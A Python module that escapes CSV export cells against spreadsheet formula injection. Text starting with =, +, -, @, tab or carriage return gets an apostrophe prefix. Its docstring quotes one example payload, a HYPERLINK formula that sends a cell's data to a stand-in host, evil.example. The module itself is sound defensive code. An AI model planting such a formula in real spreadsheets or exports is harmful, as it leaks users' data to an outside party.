"""Spreadsheet-safe exports: every CSV (and any future XLSX) export writes its cells
through here.

A spreadsheet program runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a
formula (``=HYPERLINK("https://evil.example/?"&A1, "open")`` sends data away), and
some read a leading tab or carriage return past that check. Participants' own text
goes into the coaches' exports, so such a text cell is written with a leading
apostrophe (OWASP's advice): the spreadsheet shows the text, never runs it. Numbers,
dates and empty cells pass unchanged.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Mapping
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    """The value as a spreadsheet may show it: text that could start a formula is
    prefixed with an apostrophe; None becomes an empty cell."""
    if value is None:
        return ""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def csv_text(rows: Iterable[Mapping[str, Any]]) -> str:
    """Rows (dicts with the same keys) as CSV with a header; every cell safe."""
    buffer = io.StringIO()
    writer: csv.DictWriter[str] | None = None
    for row in rows:
        if writer is None:
            writer = csv.DictWriter(buffer, fieldnames=list(row))
            writer.writeheader()
        writer.writerow({key: safe_cell(value) for key, value in row.items()})
    return buffer.getvalue()
